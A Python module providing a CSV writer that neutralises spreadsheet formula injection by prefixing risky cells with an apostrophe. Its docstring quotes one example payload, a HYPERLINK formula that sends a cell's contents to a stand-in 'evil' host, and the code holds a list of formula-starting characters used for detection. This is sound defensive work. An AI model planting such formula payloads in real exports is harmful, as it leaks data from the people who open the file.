"""The one CSV writer for every file the app writes: cells cannot run as spreadsheet formulas.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (and a leading tab or carriage return can hide one), so a customer named
``=HYPERLINK("http://evil/?"&A1)`` in an export would run when an administrator opens it. Following
OWASP's advice such cells get a leading apostrophe, which spreadsheets show as plain text. The cost:
a phone written ``+90 532 …`` reads ``'+90 532 …`` in the file; nothing is lost and the meaning is clear.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

#: First characters that make a spreadsheet read a cell as a formula (OWASP "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: Any) -> str:
    """``value`` as text that no spreadsheet runs as a formula; other text is unchanged."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeWriter:
    """``csv.writer`` whose every cell goes through ``neutralise_cell``."""

    def __init__(self, file: IO[str], **fmtparams: Any) -> None:
        self._writer = csv.writer(file, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(file: IO[str], **fmtparams: Any) -> SafeWriter:
    """A CSV writer for files people open in a spreadsheet (same arguments as ``csv.writer``)."""
    return SafeWriter(file, **fmtparams)


def restore_cell(text: str) -> str:
    """The value ``neutralise_cell`` wrote: a file we wrote (the lines with problems) can be imported again."""
    return text[1:] if text.startswith("'") and text[1:].startswith(FORMULA_STARTS) else text
